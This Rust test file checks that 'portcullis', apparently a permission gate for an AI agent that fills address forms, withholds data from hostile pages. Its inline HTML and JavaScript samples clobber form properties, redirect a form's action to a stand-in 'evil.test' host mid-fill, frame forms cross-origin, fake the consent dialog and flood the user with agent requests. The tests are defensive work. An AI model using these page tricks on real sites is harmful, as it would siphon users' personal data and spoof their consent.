//! Hostile pages that imitate the question, frame forms, clobber names, race the fill and flood the user.

use portcullis::Action;
use portcullis::service::protocol::{ClientRequest, Role};
use portcullis::service::{Client, ServiceFolder};

use crate::stage::{FORM, REQUEST, Stage};

#[test]
fn hostile_pages_get_nothing() {
    let mut stage = Stage::new(12);
    stage.site.put("shop.test/checkout", FORM);
    stage.serve(true);
    stage.browse();
    let honest = stage.site.url("shop.test/checkout");
    stage.browser().open(&honest);
    stage.task();
    stage.agent_until(None, "Deliver to");

    clobbered(&mut stage);
    raced(&mut stage);
    framed(&mut stage);
    imitated(&mut stage);
    unreachable(&mut stage);
    flooded(&mut stage);
    stage.no_value_got_out();
}

/// Opens a page on the shop's own origin, and requests the address.
fn request_on(stage: &mut Stage, html: &str) -> String {
    stage.site.put("shop.test/hostile", html);
    let url = stage.site.url("shop.test/hostile");
    stage.browser().open(&url);
    stage.agent_until(None, "Deliver to");
    stage.agent(Some(REQUEST))
}

/// Names of controls that hide the target of a form, and a main world that returns false values for everything it can.
fn clobbered(stage: &mut Stage) {
    let lies = "<script>
        const lie = (type, name, value) => Object.defineProperty(type.prototype, name, { get: () => value, set() {} });
        lie(HTMLFormElement, 'action', location.origin + '/order');
        lie(HTMLInputElement, 'type', 'text');
        HTMLFormElement.prototype.getAttribute = () => '/order';
        Document.prototype.querySelectorAll = () => [];
        Element.prototype.checkVisibility = () => true;
        </script>";
    let names = r#"<input type="hidden" name="action" value="/order"><input type="hidden" name="method" value="post">
        <input type="hidden" name="elements"><input type="hidden" name="getAttribute"></form>"#;
    let clobbered = FORM.replace("</form>", names) + lies;
    let reply =
        request_on(stage, &clobbered.replace("action=\"/order\"", "action=\"https://evil.test:PORT/take\""));
    assert!(reply.contains("wrong_destination"), "{reply}");
    let hidden = FORM.replace("<label>Street", "<label style='opacity:0.01'>Street");
    let reply = request_on(stage, &(hidden + lies));
    assert!(reply.contains("DENY.address"), "{reply}");
    // The same names on an honest form do not prevent the fill.
    let reply = request_on(stage, &clobbered);
    assert!(reply.contains("GRANT.address"), "{reply}");
}

/// Forms that change their target while they are filled, or afterwards.
fn raced(stage: &mut Stage) {
    let turns = "<script>addEventListener('input', () => {
        document.forms[0].action = 'https://evil.test:PORT/take'; });</script>";
    let reply = request_on(stage, &format!("{FORM}{turns}"));
    assert!(reply.contains("wrong_destination"), "{reply}");
    let values = stage.browser().values();
    assert_eq!(
        (values["street"].as_str(), values["city"].as_str()),
        (Some(""), Some("")),
        "the filled fields are cleared"
    );
    let swapped =
        "<script>addEventListener('input', () => { for (const el of document.querySelectorAll('input'))
        el.replaceWith(el.cloneNode()); });</script>";
    let reply = request_on(stage, &format!("{FORM}{swapped}"));
    assert!(reply.contains("DENY.address"), "{reply}");

    // After the fill, a request to another target is not sent.
    let reply = request_on(stage, FORM);
    assert!(reply.contains("GRANT.address"), "{reply}");
    stage.browser().evaluate("document.forms[0].action = 'https://evil.test:1/take'");
    stage.browser().click("button");
    let values = stage.browser().values();
    assert_eq!(values["street"], "", "the form was cleared and not sent");
}

/// A form in a frame of another site's page, and one in a sandbox.
fn framed(stage: &mut Stage) {
    let sandbox = "<h1>Deliver to</h1><iframe sandbox='allow-scripts allow-forms' srcdoc='<form action=/order method=post>
        <input autocomplete=street-address><input autocomplete=postal-code><input autocomplete=address-level2></form>'>
        </iframe>";
    let reply = request_on(stage, sandbox);
    assert!(reply.contains("DENY.address"), "{reply}");
    stage.site.put("evil.test/form", FORM);
    let reply = request_on(
        stage,
        "<h1>Deliver to</h1><iframe src='https://evil.test:PORT/form' width=600 height=400></iframe>",
    );
    assert!(reply.contains("DENY.address"), "{reply}");
}

/// A page that imitates the question: a yes that is clicked there has no effect.
fn imitated(stage: &mut Stage) {
    stage.answer("no");
    stage.task();
    stage.asked();
    let imitation = format!(
        "{FORM}<dialog open><h2>Portcullis asks</h2><button id=yes>Yes, fill it in</button></dialog>"
    );
    let reply = request_on(stage, &imitation);
    stage.browser().click("#yes");
    assert!(!(reply + &stage.agent(Some(REQUEST))).contains("GRANT"));
    let values = stage.browser().values();
    assert_eq!(values["street"], "");
}

/// A page cannot frame, fetch, open or message any part of the extension.
fn unreachable(stage: &mut Stage) {
    let id = portcullis::service::protocol::EXTENSION_ID;
    let tried = stage.browser().evaluate(&format!(
        "(async () => {{
            const at = 'chrome-extension://{id}/';
            const fetched = await fetch(at + 'options.html').then(() => 'fetched', () => 'refused');
            const frame = document.body.appendChild(document.createElement('iframe'));
            frame.src = at + 'options.html';
            await new Promise((done) => {{ frame.onload = done; setTimeout(done, 1500); }});
            let inside = 'refused';
            try {{ inside = frame.contentDocument ? frame.contentDocument.body.innerText : 'refused'; }} catch {{}}
            const image = await new Promise((done) => {{
                const img = new Image(); img.onload = () => done('loaded'); img.onerror = () => done('refused');
                img.src = at + 'manifest.json'; }});
            return [fetched, inside, image, String(globalThis.chrome?.runtime?.sendMessage)];
        }})()"
    ));
    assert_eq!(tried, serde_json::json!(["refused", "refused", "refused", "undefined"]));
}

/// A page of many frames, and an agent that asks without end: the user gets at most five questions.
fn flooded(stage: &mut Stage) {
    let many = "<iframe srcdoc='<form action=/order method=post><input autocomplete=street-address></form>'></iframe>";
    stage.site.put("shop.test/many", &format!("{FORM}{}", many.repeat(120)));
    let url = stage.site.url("shop.test/many");
    stage.browser().open(&url);
    stage.answer("session");
    stage.task();
    let place = ServiceFolder::open(&stage.folder.path().join("run")).unwrap();
    stage.answer("no");
    stage.asked();
    let replies = stage.run(async {
        let mut asking = tokio::task::JoinSet::new();
        for _ in 0..30 {
            let place = place.clone();
            asking.spawn(async move {
                let mut client = Client::connect(&place, Role::Agent).await.ok()?;
                client
                    .ask(&ClientRequest::Act(Action::Request("REQ.identity\nREQ.login\nREQ.end".to_owned())))
                    .await
                    .ok()
            });
        }
        asking.join_all().await
    });
    let granted = replies.iter().flatten().filter(|reply| reply.to_string().contains("GRANT")).count();
    assert_eq!(granted, 0);
    let asked = stage.asked().matches("Your answer").count();
    assert!(asked <= 5, "the user was asked {asked} times");
    assert!(replies.iter().any(Option::is_none), "the service served all thirty at the same time");
}
